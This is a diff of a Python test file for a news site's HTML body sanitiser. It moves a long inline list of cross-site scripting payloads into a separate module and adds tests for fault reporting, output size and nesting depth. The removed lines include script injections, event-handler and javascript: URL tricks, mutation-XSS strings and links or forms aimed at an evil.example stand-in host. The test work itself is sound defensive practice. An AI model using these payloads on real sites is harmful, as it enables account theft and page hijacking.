@@ -1,12 +1,14 @@
 """Promise IN-1: whatever is posted as a body, what is kept can run nothing."""
 
 from html.parser import HTMLParser
+from types import SimpleNamespace
 from urllib.parse import urlsplit
 
 import pytest
 
-from news.body import BodyRefusedError, clean_body
-from news.body.rules import KEPT
+from news.body import BodyRefusedError, clean_body, rules
+from news.body.rules import FORMATTING, KEPT
+from tests.news.hostile_bodies import HANDLERS, OTHERS, PAYLOADS, WRITTEN
 
 ATTRIBUTES = {
     "a": {"href", "title"},
@@ -14,136 +16,6 @@ ATTRIBUTES = {
     "td": {"colspan", "rowspan"},
     "th": {"colspan", "rowspan", "scope"},
 }
-
-PAYLOADS = [
-    # scripts, whole or in pieces
-    "<script>alert(1)</script>",
-    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
-    "<script/x>alert(1)</script>",
-    "<scr<script>ipt>alert(1)</scr</script>ipt>",
-    "<script>alert(1)",
-    "</script><script>alert(1)</script>",
-    "<script type=module>import '//evil.example/x.js'</script>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><script href=data:,alert(1) />",
-    "<math><script>alert(1)</script></math>",
-    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
-    "<!--><script>alert(1)</script>-->",
-    "<!--!><script>alert(1)</script>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<?xml version='1.0'?><script>alert(1)</script>",
-    "<xml><script>alert(1)</script></xml>",
-    # handlers
-    "<img src=x onerror=alert(1)>",
-    "<img/src=x/onerror=alert(1)>",
-    "<IMG SRC=x ONERROR=alert(1)>",
-    "<img src='x'onerror='alert(1)'>",
-    "<img src=x onerror\n=\nalert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg/onload=alert(1)//",
-    "<body onload=alert(1)>",
-    "<p onclick=alert(1)>chữ</p>",
-    "<p onmouseover='alert(1)' ONFOCUS=alert(1) tabindex=0 autofocus>chữ</p>",
-    "<a href=/x onmouseenter=alert(1)>chữ</a>",
-    "<table onmouseover=alert(1)><tr><td onclick=alert(1)>ô</table>",
-    "<figure class=photo data-photo-id=1 onclick=alert(1)></figure>",
-    "<figure class='photo' data-photo-id='1' data-use='\" onclick=alert(1) x=\"'></figure>",
-    "<figure class=photo data-photo-id='1\" onload=\"alert(1)'></figure>",
-    "<details open ontoggle=alert(1)>chữ</details>",
-    "<marquee onstart=alert(1)>chữ</marquee>",
-    "<video><source onerror=alert(1)></video>",
-    "<audio src=x onerror=alert(1)>",
-    "<input autofocus onfocus=alert(1)>",
-    "<select autofocus onfocus=alert(1)><option>1",
-    "<textarea autofocus onfocus=alert(1)>",
-    "<keygen autofocus onfocus=alert(1)>",
-    "<div style='animation-name:x' onanimationstart=alert(1)>chữ</div>",
-    "<p popover onbeforetoggle=alert(1)>chữ</p>",
-    # links
-    "<a href='javascript:alert(1)'>chữ</a>",
-    "<a href='JaVaScRiPt:alert(1)'>chữ</a>",
-    "<a href=' javascript:alert(1)'>chữ</a>",
-    "<a href='java\tscript:alert(1)'>chữ</a>",
-    "<a href='java\nscript:alert(1)'>chữ</a>",
-    "<a href='&#106;avascript:alert(1)'>chữ</a>",
-    "<a href='&#x6A&#x61&#x76&#x61script:alert(1)'>chữ</a>",
-    "<a href='javascript&colon;alert(1)'>chữ</a>",
-    "<a href='java&Tab;script&NewLine;:alert(1)'>chữ</a>",
-    "<a href='\x01javascript:alert(1)'>chữ</a>",
-    "<a href='java\x00script:alert(1)'>chữ</a>",
-    "<a href='\u200bjavascript:alert(1)'>chữ</a>",
-    "<a href='java\u00adscript:alert(1)'>chữ</a>",
-    "<a href='java\u200bscript:alert(1)'>chữ</a>",
-    "<a href='javascript\u200b:alert(1)'>chữ</a>",
-    "<a href='\ufeffjavascript:alert(1)'>chữ</a>",
-    "<a href='\u00a0javascript:alert(1)'>chữ</a>",
-    "<a href='vbscript:msgbox(1)'>chữ</a>",
-    "<a href='data:text/html,<script>alert(1)</script>'>chữ</a>",
-    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>chữ</a>",
-    "<a href='blob:https://x/1'>chữ</a>",
-    "<a href='file:///etc/passwd'>chữ</a>",
-    "<a href='feed:javascript:alert(1)'>chữ</a>",
-    "<a href='view-source:javascript:alert(1)'>chữ</a>",
-    "<a href='//evil.example'>chữ</a>",
-    "<a href='/\\evil.example'>chữ</a>",
-    "<a href='\\\\evil.example'>chữ</a>",
-    "<a href='/\t/evil.example'>chữ</a>",
-    "<a href='/\u200b/evil.example'>chữ</a>",
-    "<a xlink:href='javascript:alert(1)'>chữ</a>",
-    "<a href=/x ping=//evil.example>chữ</a>",
-    "<a href=/x target=_blank rel=opener>chữ</a>",
-    "<svg><a xlink:href='javascript:alert(1)'><text>chữ</text></a></svg>",
-    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x>chữ</a></svg>",
-    "<math><maction actiontype=statusline xlink:href='javascript:alert(1)'>chữ</maction></math>",
-    "<map><area href='javascript:alert(1)'></map>",
-    # styles
-    "<style>*{background:url(//evil.example)}</style>",
-    "<style><!--</style><img src=x onerror=alert(1)>--></style>",
-    "<p style='background:url(javascript:alert(1))'>chữ</p>",
-    "<p style='position:fixed;inset:0'>chữ</p>",
-    "<p class='admin-button' id=content>chữ</p>",
-    "<link rel=stylesheet href=//evil.example/x.css>",
-    # frames, objects, forms, page-wide elements
-    "<iframe src=javascript:alert(1)></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<object data=javascript:alert(1)></object>",
-    "<embed src=javascript:alert(1)>",
-    "<applet code=x></applet>",
-    "<base href=//evil.example/>",
-    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
-    "<form action=//evil.example><input name=password><button formaction=javascript:alert(1)>gửi</button></form>",
-    "<portal src=//evil.example></portal>",
-    "<frameset onload=alert(1)><frame src=x></frameset>",
-    "<template><script>alert(1)</script></template>",
-    "<slot onslotchange=alert(1)></slot>",
-    # mutation: markup that changes its meaning when parsed again
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
-    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
-    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    "<math><annotation-xml encoding='text/html'><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
-    "<svg><foreignObject><p><style><!--</style><img src=x onerror=alert(1)>",
-    "<select><template><style><!--</select><img src=x onerror=alert(1)>",
-    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
-    "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
-    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
-    "<plaintext><img src=x onerror=alert(1)>",
-    "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
-    "<a title='\"><img src=x onerror=alert(1)>' href=/x>chữ</a>",
-    "<a title='&quot; onmouseover=alert(1) x=&quot;' href=/x>chữ</a>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
-    "<b title='a>b' onclick=alert(1)>chữ</b>",
-    "<b/onclick=alert(1)>chữ</b>",
-    '<b "<b onclick=alert(1)>chữ</b>',
-    "<table><td><figure class=photo data-photo-id=1><svg onload=alert(1)></figure></table>",
-    "<h1><h1 onclick=alert(1)><svg/onload=alert(1)>",
-    "<q cite=javascript:alert(1)>chữ</q>",
-    "<blockquote cite=javascript:alert(1)>chữ</blockquote>",
-    "<td background=javascript:alert(1)>ô</td>",
-    "<p contenteditable spellcheck data-x=1 is=x-y>chữ</p>",
-    "<x-element onclick=alert(1)>chữ</x-element>",
-]
 
 
 class Elements(HTMLParser):
@@ -165,25 +37,43 @@ class Elements(HTMLParser):
     handle_decl = handle_pi = unknown_decl = handle_comment
 
 
-@pytest.mark.parametrize("payload", PAYLOADS)
-@pytest.mark.parametrize("wrapping", ["{}", "<p>trước {} sau</p>", "<table><tr><td>{}</td></tr></table>"])
-def test_only_what_the_lists_allow_is_kept(payload, wrapping):
-    html = clean_body(wrapping.format(payload)).html
-
+def outside_the_lists(html):
+    """Give what of a clean body no list allows."""
     elements = Elements(html)
-    assert elements.others == []
+    faults = [f"<!{other}>" for other in elements.others]
     for tag, attributes in elements.found:
-        assert tag in KEPT
-        assert set(attributes) <= ATTRIBUTES.get(tag, set())
-        assert attributes.get("class", "photo") == "photo"
-        assert is_harmless(attributes.get("href", "/"))
-    assert clean_body(html).html == html
+        faults += [f"<{tag}>"] if tag not in KEPT else []
+        faults += [f"<{tag} {name}>" for name in attributes if name not in ATTRIBUTES.get(tag, set())]
+        faults += [f'class="{attributes["class"]}"'] if attributes.get("class", "photo") != "photo" else []
+        faults += [attributes["href"]] if not is_harmless(attributes.get("href", "/")) else []
+    return faults
 
 
 def is_harmless(href: str) -> bool:
     bare = "".join(letter for letter in href if letter.isprintable() and not letter.isspace())
     parts = urlsplit(bare.replace("\\", "/"))
     return parts.scheme in {"http", "https", "mailto", "tel"} or not (parts.scheme or parts.netloc)
+
+
+def test_there_are_more_than_300_payloads_and_no_two_alike():
+    assert len(set(PAYLOADS)) == len(PAYLOADS) > 400
+
+
+@pytest.mark.parametrize("family", [WRITTEN, OTHERS, HANDLERS], ids=["written", "others", "handlers"])
+@pytest.mark.parametrize(
+    "wrapping", ["{}", "<p>trước {} sau</p>", "<table><tr><td>{}</td></tr></table>", "<a href=/x title='{}'>{}</a>"]
+)
+def test_only_what_the_lists_allow_is_kept(family, wrapping):
+    cleaned = {payload: clean_body(wrapping.replace("{}", payload)).html for payload in family}
+
+    assert {payload: faults for payload, html in cleaned.items() if (faults := outside_the_lists(html))} == {}
+    assert [payload for payload, html in cleaned.items() if clean_body(html).html != html] == []
+
+
+def test_the_judge_of_these_tests_sees_what_is_wrong():
+    bad = "<script>x</script><p onclick=x>a</p><a href='java\tscript:x'>b</a><!-- c --><figure class=cke></figure>"
+
+    assert outside_the_lists(bad) == ["<! c >", "<script>", "<p onclick>", "java\tscript:x", 'class="cke"']
 
 
 def test_the_words_around_an_attack_are_kept():
@@ -203,7 +93,46 @@ def test_a_body_nested_without_end_is_refused_with_a_sentence(unit):
         clean_body(unit * 1000)
 
 
-def test_formatting_that_would_multiply_does_not():
-    html = "".join(f"<p><b id={number}>chữ" for number in range(3000))
+# What would cost more than it should. Times are measured by bench/cleaning.py; here it is counted what comes out.
 
-    assert len(clean_body(html).html) < 10 * len(html)
+ALL_FORMATTING = "".join(f"<{name}>" * 3 for name in sorted(FORMATTING))
+
+
+@pytest.mark.parametrize(
+    "html",
+    [
+        "".join(f"<p><b id={number}>chữ" for number in range(3000)),
+        f"<p><a href='/{'x' * 20_000}'>" + "<p>a" * 5000,
+        f"<p><a href='/{'x' * 20_000}' title='{'x' * 9000}'>" + "a<figure class=photo data-photo-id=7></figure>" * 500,
+        f"<p>{ALL_FORMATTING}" + "<p>a" * 5000,
+        f"<ul>{ALL_FORMATTING}" + "<li>a" * 5000,
+        f"{ALL_FORMATTING}<table>" + "a<tr><td>b" * 3000,
+        "<p>" + "<b><i>" * 25 + "a<figure class=photo data-photo-id=7></figure>" * 500,
+    ],
+)
+def test_no_body_becomes_many_times_longer(html):
+    assert len(clean_body(html).html) < 5 * len(html)
+
+
+def test_a_body_in_order_is_parsed_twice_and_no_oftener(monkeypatch):
+    parsed = []
+    for name in ("reader", "authority"):
+        cleaner = getattr(rules, name)
+        spy = SimpleNamespace(clean=lambda html, cleaner=cleaner, name=name: parsed.append(name) or cleaner.clean(html))
+        monkeypatch.setattr(rules, name, spy)
+
+    clean_body("<p>Hội nghị <b>tổng kết</b><script>alert(1)</script>" * 50)
+
+    assert parsed == ["reader", "authority"]
+
+
+@pytest.mark.parametrize("unit", ["<ul><li>a", "<div>", "<section>a<article>b"])
+def test_blocks_nested_far_too_deep_are_refused_before_they_are_parsed(monkeypatch, unit):
+    monkeypatch.setattr(rules, "reader", None)
+
+    with pytest.raises(BodyRefusedError, match="Nội dung lồng nhau quá 60 lớp"):
+        clean_body(unit * 1000)
+
+
+def test_marks_heaped_on_one_letter_are_few_when_they_are_put_in_order():
+    assert clean_body("<p>a" + "\u0301\u0323" * 50_000).html.count("\u0301") < 40
